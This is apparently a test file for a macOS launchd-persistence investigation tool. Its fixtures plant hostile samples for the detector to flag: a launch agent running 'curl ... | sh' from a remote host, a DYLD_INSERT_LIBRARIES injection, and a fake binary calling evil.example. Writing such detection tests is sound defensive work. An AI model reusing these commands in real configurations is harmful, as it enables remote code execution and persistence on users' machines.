import { mkdirSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from 'vitest';
import { sha256Hex } from '../../../src/base/digest.js';
import { RootMap } from '../../../src/base/root.js';
import type { Detection } from '../../../src/event/alert.js';
import { type Answer, isAnswer } from '../../../src/event/investigation.js';
import {
  type Case,
  type CaseTools,
  investigate,
  steps,
  subjectOf,
} from '../../../src/respond/investigate/index.js';
import { quarantineOf, whereFroms } from '../../../src/respond/investigate/origin.js';
import { timestomps } from '../../../src/respond/investigate/times.js';
import { binaryPlistOf } from '../../helpers/plist-writer.js';
import { tempFolder } from '../../helpers/run-cli.js';
import { detection, event, fileEvent, plistPath, processEvent, rule } from '../cli/alert-fixture.js';
import { temporaryStore } from '../store/samples.js';

const why = { why: 'the tree has no such tool' };
const noTools: CaseTools = {
  jobs: async () => why,
  launchd: async () => undefined,
  processes: async () => why,
  runsImage: () => false,
  usersOf: async () => why,
  signature: async () => why,
  run: async () => why,
};

function caseOf(
  found: Partial<Detection> = {},
  {
    tools = {},
    events = [],
  }: {
    readonly tools?: Partial<CaseTools>;
    readonly events?: Parameters<Case['store']['events']['append']>[0];
  } = {},
): Case & { readonly host: (macPath: string, content: string | Buffer) => string } {
  const store = temporaryStore();
  const root = new RootMap(tempFolder());
  const one = detection(found);
  store.events.append(events);
  const { alert } = store.alerts.upsert(
    one,
    { version: '1', agentId: 'a', created: one.time, sensors: ['file-watch'], simulated: true },
    [],
  );
  return {
    ...{ alert, store, root, about: subjectOf(alert.doc), tools: { ...noTools, ...tools } },
    now: alert.time + 60e6,
    expired: () => false,
    host(macPath, content) {
      const file = root.toHost(macPath);
      mkdirSync(path.dirname(file), { recursive: true });
      writeFileSync(file, content);
      return file;
    },
  };
}

async function answersOf(from: Case): Promise<(step: string) => Answer> {
  const answers = await investigate(from);
  const asked = steps.filter(({ applies }) => applies?.(from.about) !== false);
  expect(answers.map(({ step }) => step)).toEqual(asked.map(({ name }) => name));
  expect(answers.every(isAnswer)).toBe(true);
  return (step) => answers.find((answer) => answer.step === step) as Answer;
}

const valuesOf = ({ facts }: Answer, name: string) =>
  facts.filter((one) => one.name === name).map(({ value }) => value);
const all = (answer: Answer) => JSON.stringify(answer);

test('what a list says is explained key by key, and what is suspicious with the reason', async () => {
  const json = JSON.stringify({
    Label: 'com.apple.helper',
    ProgramArguments: ['/bin/sh', '-c', 'curl -s http://198.51.100.7/x | sh'],
    EnvironmentVariables: { DYLD_INSERT_LIBRARIES: '/private/tmp/.x.dylib' },
    RunAtLoad: true,
    Umask: 18,
    Wrong: 1,
  });
  const file = fileEvent();
  file.doc.launchwarden = { ...file.doc.launchwarden, plist: { ...file.doc.launchwarden?.plist, json } };
  const answer = (await answersOf(caseOf({ events: [file, processEvent()], candidates: [] })))('contents');
  expect(answer.mark).toBe('worrying');
  const said = (key: string) => answer.points.find(({ says }) => says.startsWith(`${key}:`));
  expect(said('Label')).toMatchObject({
    mark: 'worrying',
    says: expect.stringContaining("claims to be Apple's"),
  });
  expect(said('EnvironmentVariables')).toMatchObject({
    mark: 'worrying',
    says: expect.stringContaining('foreign code'),
  });
  expect(said('RunAtLoad')).toMatchObject({ mark: 'neutral' });
  expect(said('Wrong')?.says).toContain('no key that launchd.plist(5) describes');
  expect(valuesOf(answer, 'ProgramArguments')).toEqual([
    '["/bin/sh","-c","curl -s http://198.51.100.7/x | sh"]',
  ]);
});

test('whom an item concerns follows from where it stands', async () => {
  const of = async (file: string) =>
    (
      await answersOf(
        caseOf({ events: [fileEvent('f', { path: file, owner: 'root', uid: '0' })], candidates: [] }),
      )
    )('scope');
  expect(await of('/Users/alice/Library/LaunchAgents/x.plist')).toMatchObject({
    mark: 'notable',
    says: 'One user, alice: it runs when alice is logged in.',
    points: expect.arrayContaining([{ mark: 'notable', says: expect.stringContaining('belongs to root') }]),
  });
  expect((await of('/Library/LaunchDaemons/x.plist')).says).toContain('The whole Mac');
  expect((await of('/Library/LaunchAgents/x.plist')).says).toContain('Every user');
  expect(await of('/System/Library/LaunchAgents/x.plist')).toMatchObject({ mark: 'worrying' });
  const plugIn = await of('/Library/DirectoryServices/PlugIns/x.dsplug');
  expect(plugIn.says).toContain('directory service loads it as root');
  expect(all(plugIn)).toContain('/Library/DirectoryServices/PlugIns/*.dsplug');
});

test('times that contradict each other are told from those that do not', () => {
  const day = 86_400e6;
  const at = 1_795_000_000e6;
  const marks = (given: Parameters<typeof timestomps>[0], findings: readonly string[] = []) =>
    timestomps(given, { findings, at }).map(({ mark }) => mark);
  expect(marks({ created: at, modified: at, changed: at, wholeSeconds: false })).toEqual([]);
  expect(marks({ created: at, modified: at - day, changed: at, wholeSeconds: true })).toEqual([
    'notable',
    'notable',
  ]);
  expect(marks({ created: at - day, modified: at - 5e6, changed: at, wholeSeconds: false })).toEqual([]);
  expect(marks({ modified: at + day, changed: at, wholeSeconds: false })).toEqual(['worrying']);
  expect(marks({ changed: at, wholeSeconds: false }, ['time-set-back'])).toEqual(['worrying']);
  expect(marks({ wholeSeconds: false })).toEqual([]);
});

test('a file whose time was set is found by the times of the disk', async () => {
  const from = caseOf({ events: [fileEvent('f', { path: plistPath })], candidates: [] });
  const file = from.host(plistPath, 'x');
  utimesSync(file, 1_000_000_000, 1_000_000_000);
  const answer = (await answersOf(from))('times');
  expect(answer.mark).toBe('notable');
  expect(valuesOf(answer, 'content changed')).toEqual(['2001-09-09T01:46:40.000000Z']);
  rmSync(file);
  expect((await answersOf(from))('times')).toMatchObject({
    mark: 'unknown',
    unknown: ['the times of the file: nothing stands there'],
  });
});

test('a link is not followed, and what stands behind it is not read', async () => {
  const from = caseOf({ events: [fileEvent('f', { path: plistPath })], candidates: [] });
  const secret = from.host('/private/var/root/secret', 'secret');
  const file = from.root.toHost(plistPath);
  mkdirSync(path.dirname(path.dirname(file)), { recursive: true });
  symlinkSync(path.dirname(secret), path.dirname(file));
  from.host(
    '/private/var/root/com.evil.plist',
    '<plist><dict><key>Label</key><string>hidden</string></dict></plist>',
  );
  const answers = await answersOf(from);
  expect(all(answers('contents'))).not.toContain('"hidden"');
  expect(answers('contents').unknown.join()).toContain('a link on the way leads to /private/var/root');
});

test('a program that runs under another name is known by what it is', async () => {
  const renamed = { pid: 88, executable: '/Users/alice/.cache/other' };
  const program = '/Users/alice/evil';
  const file = fileEvent();
  file.doc.launchwarden = {
    ...file.doc.launchwarden,
    plist: { ...file.doc.launchwarden?.plist, own_code: [program] },
  };
  const from = caseOf(
    { events: [file, processEvent()], candidates: [] },
    {
      tools: {
        processes: async () => ({ value: [{ pid: 1, executable: '/sbin/launchd' }, renamed] }),
        runsImage: ({ pid }, images) => pid !== 1 && images.matches(from.root.toHost(renamed.executable)),
      },
    },
  );
  from.host(renamed.executable, 'evil');
  const seen = { kind: 'program', type: 'file', sha256: sha256Hex('evil'), size: 4, mode: 0o755 } as const;
  const state = { ...seen, path: program, uid: 0, gid: 0, mtime: 1n, ctime: 1n };
  expect((await answersOf(from))('running').mark).not.toBe('worrying');
  from.store.versions.record([{ state, of: [] }], 1);
  const answer = (await answersOf(from))('running');
  expect(answer).toMatchObject({ mark: 'worrying', says: 'Yes, what it runs is running: pid 88.' });
  expect(answer.points[0]?.says).toBe(
    'Process 88 runs its program under another name: /Users/alice/.cache/other.',
  );
});

test('launchd is asked, and a running job says its pid', async () => {
  const jobs: CaseTools['jobs'] = async (asked, labels) => ({
    value: [
      { target: `gui/501/${labels[0]}`, state: 'loaded', pid: 77, runs: 3, path: asked },
      { target: `system/${labels[0]}`, state: 'not-loaded' },
    ],
  });
  const processes = async () => ({ value: [] });
  const launchd: CaseTools['launchd'] = async () => ({
    value: { loads: 'launchd loads it.', obstacles: [], disabled: 'Nobody disables it.', live: 'It waits.' },
  });
  const told = (await answersOf(caseOf({}, { tools: { launchd, processes } })))('running');
  expect(told.says).toBe('It waits.');
  expect(told.points.map(({ says }) => says)).toEqual(['launchd loads it.', 'Nobody disables it.']);
  const runs = (await answersOf(caseOf({}, { tools: { jobs, processes } })))('running');
  expect(runs).toMatchObject({
    mark: 'worrying',
    says: 'Yes, it runs: pid 77, loaded as gui/501/com.evil.agent.',
  });
  expect(valuesOf(runs, 'gui/501/com.evil.agent')).toEqual(['loaded, pid 77, started 3 times']);
  const gone: CaseTools['jobs'] = async () => ({ value: [{ target: 'system/x', state: 'not-loaded' }] });
  expect((await answersOf(caseOf({}, { tools: { jobs: gone, processes } })))('running')).toMatchObject({
    mark: 'reassuring',
    says: 'No: launchd does not have it loaded in system, and nothing of it runs.',
  });
  expect((await answersOf(caseOf()))('running')).toMatchObject({
    mark: 'unknown',
    unknown: [
      expect.stringContaining('the tree has no such tool'),
      expect.stringContaining('the tree has no such tool'),
    ],
  });
});

test('who loaded it is told with its parents, as far as the stored events know them', async () => {
  const call = processEvent('p1', {
    entity_id: 'e3',
    parent: { pid: 4000, entity_id: 'e2', executable: '/bin/zsh', args: ['-zsh'] },
    Ext: { ancestry: ['e2', 'e1', 'e0'] },
  });
  const parent = event('e', '2026-11-22T05:39:00.000000Z', {
    event: { category: ['process'], type: ['start'], action: 'exec' },
    process: { pid: 3000, entity_id: 'e1', executable: '/private/tmp/dropper', args: ['./dropper'] },
  });
  const answer = (await answersOf(caseOf({ events: [fileEvent(), call] }, { events: [parent] })))(
    'launchctl',
  );
  expect(answer.mark).toBe('worrying');
  expect(valuesOf(answer, 'its parent')).toEqual(['/private/tmp/dropper (pid 3000): ./dropper']);
  expect(answer.unknown).toEqual([expect.stringContaining('1 older parent:')]);
});

test('the writer is certain only when a sensor saw it', async () => {
  expect((await answersOf(caseOf()))('writer')).toMatchObject({ mark: 'unknown' });
  const guessed = fileEvent();
  guessed.doc.launchwarden = {
    ...guessed.doc.launchwarden,
    likely_writers: [
      {
        pid: 7,
        executable: '/usr/bin/vim',
        how: 'open-for-writing',
        user: { id: '501' },
        seen: '2026-11-22T05:40:13.281123Z',
      },
    ],
  };
  expect((await answersOf(caseOf({ events: [guessed, processEvent()] })))('writer')).toMatchObject({
    mark: 'neutral',
    says: expect.stringContaining('Likely /usr/bin/vim (pid 7)'),
    points: [{ says: '/usr/bin/vim (pid 7): it had the file open for writing when the change was noticed.' }],
  });
  const seen = fileEvent();
  seen.doc.process = { pid: 9, executable: '/usr/bin/defaults', args: ['defaults', 'write'] };
  expect((await answersOf(caseOf({ events: [seen, processEvent()] })))('writer').says).toBe(
    '/usr/bin/defaults wrote it: certain, since file-watch saw it.',
  );
});

test('what a bundle holds is listed, with what is odd about it', async () => {
  const bundle = '/Library/DirectoryServices/PlugIns/Evil.dsplug';
  const from = caseOf({ events: [fileEvent('f', { path: bundle, type: 'dir' })], candidates: [] });
  from.host(
    `${bundle}/Contents/Info.plist`,
    '<plist><dict><key>CFBundleIdentifier</key><string>com.evil.x</string><key>CFBundleExecutable</key><string>plug</string></dict></plist>',
  );
  from.host(
    `${bundle}/Contents/MacOS/plug`,
    Buffer.concat([Buffer.from('cffaedfe', 'hex'), Buffer.from('/bin/sh curl https://evil.example/x\0')]),
  );
  symlinkSync('/etc/passwd', from.root.toHost(`${bundle}/Contents/away`));
  const answer = (await answersOf(from))('bundle');
  expect(answer.says).toBe('2 files, one program or script among them; it calls itself com.evil.x.');
  expect(all(answer)).toContain('https://evil.example/x');
  expect(all(answer)).toContain('Links lead out of the bundle: Contents/away.');
  expect(valuesOf(answer, 'Contents/MacOS/plug')[0]).toMatch(
    /Mach-O binary, 40 bytes, mode \d{4}, sha256 [0-9a-f]{64}/,
  );
});

test('starts of its program are found in the stored events', async () => {
  const file = fileEvent();
  file.doc.launchwarden = {
    ...file.doc.launchwarden,
    plist: {
      label: 'x',
      program_arguments: ['/opt/evil/run'],
      runs: ['/opt/evil/run'],
      own_code: ['/opt/evil/run'],
    },
  };
  const start = event('s', '2026-11-22T05:40:20.000000Z', {
    event: { category: ['process'], type: ['start'], action: 'exec' },
    user: { name: 'alice' },
    process: { pid: 7, executable: '/opt/evil/run', args: ['/opt/evil/run'] },
  });
  const answers = await answersOf(
    caseOf({ events: [file, processEvent()], candidates: [] }, { events: [start] }),
  );
  expect(answers('executed')).toMatchObject({
    mark: 'worrying',
    says: 'Yes: started one time, the last time at 2026-11-22 05:40:20 UTC.',
  });
  expect(answers('around').says).toContain('one telling event among');
});

test('a mark of quarantine and of where it came from is read', () => {
  expect(quarantineOf(Buffer.from('0083;65a1b2c3;Safari;F643CD5F'))).toEqual({
    agent: 'Safari',
    time: 0x65a1b2c3 * 1e6,
  });
  expect(quarantineOf(Buffer.from('\0\0'))).toEqual({ agent: undefined, time: undefined });
  expect(whereFroms(binaryPlistOf(['https://a.example/x.dmg', 'https://a.example/']))).toEqual([
    'https://a.example/x.dmg',
    'https://a.example/',
  ]);
  expect(whereFroms(Buffer.from('rubbish'))).toEqual([]);
});

test('documents of any form, and texts of any length, give bounded answers', async () => {
  const long = `\u202e<script>\n${'x'.repeat(10_000)}`;
  const odd = fileEvent('f', {
    path: `/Users/alice/Library/LaunchAgents/${long}.plist`,
    owner: 7 as never,
    mtime: [] as never,
  });
  const call = processEvent('p', {
    args: Array.from({ length: 500 }, () => long),
    Ext: { ancestry: {} as never },
  });
  call.doc.launchwarden = { findings: 'none' as never, plist: [] as never, launchctl: 1 as never };
  const from = caseOf({ events: [odd, call], candidates: [] });
  const answers = await investigate(from);
  expect(answers.every(isAnswer)).toBe(true);
  expect(JSON.stringify(answers).length).toBeLessThan(200 * 1024);
});

test('a step that fails keeps nobody from the others', async () => {
  const answers = await answersOf(
    caseOf({}, { tools: { processes: async () => Promise.reject(new Error('broken')) } }),
  );
  expect(answers('running')).toMatchObject({ mark: 'unknown', unknown: ['the answer: broken'] });
  expect(answers('history').says).not.toBe('');
});

test('the gravest of related alerts is the one with the highest priority, whatever its rule says', async () => {
  const from = caseOf();
  const store = from.store as ReturnType<typeof temporaryStore>;
  const add = (id: string, name: string, change: Parameters<typeof fileEvent>[1], findings: string[]) => {
    const file = fileEvent(`f${id}`, change);
    file.doc.launchwarden = { ...file.doc.launchwarden, findings };
    store.alerts.upsert(
      detection({
        id: id.repeat(32),
        rule: { ...rule, name, severity: findings.length > 0 ? 'low' : 'high' },
        events: [file, processEvent(`p${id}`)],
        candidates: [],
      }),
      { version: '1', agentId: 'a', created: from.alert.time, sensors: [], simulated: true },
      [],
    );
  };
  add('b', 'High by its rule', {}, []);
  add('c', 'Low, but it runs what it fetches', {}, ['remote-script', 'apple-label', 'program-in-tmp']);
  const answer = (await answersOf(from))('related');
  expect(answer.says).toMatch(/^2 other alerts, 2 not closed/);
  expect(answer.points[0]?.says).toBe(
    'The gravest of them: Low, but it runs what it fetches (critical 100).',
  );
});
